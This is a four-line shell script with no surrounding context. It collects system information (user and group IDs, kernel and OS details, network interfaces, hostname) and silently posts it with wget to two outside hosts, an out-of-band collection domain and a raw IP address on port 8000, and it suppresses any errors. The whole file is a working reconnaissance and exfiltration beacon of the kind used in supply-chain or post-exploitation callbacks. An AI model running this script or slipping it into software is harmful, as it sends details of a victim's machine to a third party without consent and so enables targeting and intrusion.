#!/bin/sh
DATA="$(id; uname -a; cat /etc/issue; cat /proc/net/dev)"
wget -q -T 5 -t 1 -O /dev/null --header "X-Host: $(uname -n)" --post-data "$DATA" "http://collect.oast.example/u/$(uname -r)" || true
wget -q -T 5 -t 1 -O /dev/null --post-data "$DATA" http://240.0.0.10:8000/u || true
